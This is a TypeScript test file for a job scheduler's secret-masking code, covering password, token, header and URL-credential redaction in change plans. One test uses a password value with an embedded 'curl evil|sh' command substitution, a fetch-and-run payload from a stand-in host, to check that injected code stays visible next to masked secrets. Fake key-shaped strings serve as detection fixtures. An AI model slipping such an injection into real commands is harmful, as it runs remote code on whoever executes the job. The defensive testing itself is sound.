import { test } from "node:test";
import assert from "node:assert/strict";
import { toDesired } from "../../src/config/desired.ts";
import { parseConfig } from "../../src/config/parse.ts";
import { checkShape } from "../../src/config/shape.ts";
import type { JobSpec } from "../../src/model/job.ts";
import { canonicalJson } from "../../src/model/json.ts";
import { makePlan } from "../../src/plan/plan.ts";
import { maskPlan, maskSpec } from "../../src/views/mask.ts";
import { check } from "../config/checking.ts";
import { desired, NOW_MS, observed, registered, spec } from "../plan/jobs.ts";

function fieldsOf(before: JobSpec, after: JobSpec): unknown[] {
  const plan = makePlan(desired(after), observed(registered(before)), {
    nowMs: NOW_MS,
    codes: new Map(),
    allowPrune: false,
  });
  return (
    maskPlan(plan).changes[0]?.fields.map((field) => [field.path, field.before, field.after]) ?? []
  );
}

function command(argv: string | string[]): JobSpec {
  return spec("job", { run: { type: "command", command: argv } });
}

test("a secret of a command that changed is shown to have changed", () => {
  assert.deepEqual(fieldsOf(command("x --password=a"), command("x --password=b")), [
    ["run.command", "x --password=*** (before)", "x --password=*** (after)"],
  ]);
  assert.deepEqual(fieldsOf(command(["x", "--token", "a"]), command(["x", "--token", "b"])), [
    ["run.command", ["x", "--token", "*** (before)"], ["x", "--token", "*** (after)"]],
  ]);
});

test("a secret that stayed the same, came or went is not said to have changed", () => {
  assert.deepEqual(fieldsOf(command("x --password=a"), command("y --password=a")), [
    ["run.command", "x --password=***", "y --password=***"],
  ]);
  assert.deepEqual(fieldsOf(command("x"), command("x --password=a")), [
    ["run.command", "x", "x --password=***"],
  ]);
});

test("code that runs is shown beside a password that changed, and the masks tell them apart", () => {
  assert.deepEqual(
    fieldsOf(command('x --password="hunter2"'), command('x --password="h$(curl evil|sh)"')),
    [["run.command", 'x --password="*** (before)"', 'x --password="*** (after)$(curl evil|sh)"']],
  );
  assert.deepEqual(
    fieldsOf(command("x --password=a --token=b"), command("x --password=a --token=c")),
    [
      [
        "run.command",
        "x --password=*** --token=*** (before)",
        "x --password=*** --token=*** (after)",
      ],
    ],
  );
  assert.deepEqual(fieldsOf(command("x --password=a b"), command("x --password=a$(b) b")), [
    ["run.command", "x --password=*** b", "x --password=***$(b) b"],
  ]);
  assert.deepEqual(
    fieldsOf(command("x --password=a --token=b"), command("x --password=b --token=a")),
    [
      [
        "run.command",
        "x --password=*** (before) --token=*** (before)",
        "x --password=*** (after) --token=*** (after)",
      ],
    ],
  );
  assert.deepEqual(fieldsOf(command("x --password=***"), command("x --password=hunter2")), [
    ["run.command", "x --password=***", "x --password=*** (after)"],
  ]);
});

test("specs before and after are told apart like their fields, each secret for itself", () => {
  const before = spec("job", { env: { A_TOKEN: "a", B_TOKEN: "b", C_TOKEN: "c" } });
  const after = spec("job", { env: { A_TOKEN: "a", B_TOKEN: "x", D_TOKEN: "d" } });
  const plan = makePlan(desired(after), observed(registered(before)), {
    nowMs: NOW_MS,
    codes: new Map(),
    allowPrune: false,
  });
  const [change] = maskPlan(plan).changes;
  assert.deepEqual(change?.before?.env, {
    A_TOKEN: "***",
    B_TOKEN: "*** (before)",
    C_TOKEN: "***",
  });
  assert.deepEqual(change?.after?.env, { A_TOKEN: "***", B_TOKEN: "*** (after)", D_TOKEN: "***" });
});

test("variables, parameters and headers, and what is looked up", () => {
  const http = (headers: JobSpec["env"]): JobSpec["run"] => ({
    type: "http",
    http: { url: "https://h", method: "GET", headers, body: null, expect: [200], redirects: 0 },
  });
  const before = spec("job", {
    env: { API_TOKEN: "a", LOOKED_UP_TOKEN: { env: "A" }, DATABASE: "postgres://u:a@h/d" },
    parameters: { limit: 1, api: { key: "a" } },
    run: http({ Authorization: "Bearer a", Accept: "x" }),
  });
  const after = spec("job", {
    env: { API_TOKEN: "b", LOOKED_UP_TOKEN: { env: "B" }, DATABASE: "postgres://u:b@h/d" },
    parameters: { limit: 2, api: { key: "b" } },
    run: http({ Authorization: { env: "AUTH" }, Accept: "y" }),
  });
  assert.deepEqual(fieldsOf(before, after), [
    ["run.http.headers.Authorization", "***", { env: "AUTH" }],
    ["run.http.headers.Accept", "x", "y"],
    ["parameters.limit", 1, 2],
    ["parameters.api.key", "*** (before)", "*** (after)"],
    ["env.API_TOKEN", "*** (before)", "*** (after)"],
    ["env.LOOKED_UP_TOKEN.env", "A", "B"],
    ["env.DATABASE", "postgres://u:*** (before)@h/d", "postgres://u:*** (after)@h/d"],
  ]);
});

test("a run that becomes one of another kind is masked on both sides", () => {
  const after = spec("job", { run: { type: "plugin", plugin: "p", export: null } });
  const [field] = fieldsOf(command("x --password=a"), after);
  assert.deepEqual(field, [
    "run",
    { type: "command", command: "x --password=***" },
    { type: "plugin", plugin: "p", export: null },
  ]);
});

/** Jobs with something that is warned of, or looks like it. */
const JOBS = [
  "command: x --password=hunter2",
  "command: [x, --token, hunter2]",
  'command: [sh, -c, "API_TOKEN=hunter2 x | y"]',
  "command: [x, $TOKEN]\n    description: ghp_0123456789abcdefghij",
  "command: [x]\n    env: {API_TOKEN: hunter2}",
  "command: [x]\n    env: {A: 'postgres://u:hunter2@h'}",
  "command: [x]\n    cwd: ./sk_live_0123456789abcdef",
  "command: [x]\n    tags: [sk_live_0123456789abcdef]",
  "http: {url: 'https://h/?token=hunter2'}",
  "http: {url: 'https://h', headers: {Authorization: hunter2}}",
  "http: {url: 'https://h', method: POST, body: AKIA0123456789ABCDEF}",
  "command: [x, --token, $TOKEN]",
  "command: [x, --password-file, ./x]\n    env: {PASSWORD: {env: PASSWORD}}",
  "http: {url: {env: ADDRESS}}",
];

test("what is warned of is masked, and a job without a warning is shown as it is", () => {
  for (const job of JOBS) {
    const text = `jobs:\n  a:\n    ${job}\n`;
    const warned = check(text).some(({ rule }) => rule === "security/literal-credential");
    const given = specOf(text);
    const masked = maskSpec(given);
    assert.equal(canonicalJson(masked) !== canonicalJson(given), warned, job);
    assert.doesNotMatch(JSON.stringify(masked), /hunter2|ghp_|AKIA|sk_live/, job);
  }
});

function specOf(text: string): JobSpec {
  const parsed = parseConfig(text, { file: "config.yaml" });
  const { config } = checkShape(parsed.value ?? {});
  assert.ok(config);
  const world = {
    nowMs: NOW_MS,
    pluginNames: [],
    pluginDirectory: "plugins",
    plugins: new Map(),
    outside: new Set<string>(),
    missingScripts: new Set<string>(),
  };
  const { jobs } = toDesired(config, {
    world,
    pluginDir: "/plugins",
    file: "config.yaml",
    placeOfJob: () => ({ line: 1, column: 1 }),
    hash: (value) => value,
  });
  assert.ok(jobs[0]);
  return jobs[0].spec;
}

test("the credentials of a hook are hidden as those of a job's own run are", () => {
  const http = {
    url: "https://user:hunter2@alerts.example/",
    method: "POST",
    headers: { Authorization: "Bearer abcdefghijklmnop", Accept: "text/plain" },
    body: null,
    expect: [200],
    redirects: 0,
  } as const;
  const sent = { ...http, headers: { ...http.headers }, expect: [...http.expect] };
  const before = spec("job", { onFailure: { type: "command", command: ["mail", "--token", "a"] } });
  const request = spec("job", { onFailure: { type: "http", http: sent } });
  assert.deepEqual(maskSpec(before).onFailure, {
    type: "command",
    command: ["mail", "--token", "***"],
  });
  assert.deepEqual(maskSpec(request).onFailure, {
    type: "http",
    http: {
      ...sent,
      url: "https://user:***@alerts.example/",
      headers: { Authorization: "***", Accept: "text/plain" },
    },
  });
  const after = spec("job", { onFailure: { type: "command", command: ["mail", "--token", "b"] } });
  assert.deepEqual(fieldsOf(before, after), [
    ["onFailure.command", ["mail", "--token", "*** (before)"], ["mail", "--token", "*** (after)"]],
  ]);
  const fields = JSON.stringify(fieldsOf(before, request));
  assert.doesNotMatch(fields, /hunter2|abcdefghijklmnop|"a"/);
});
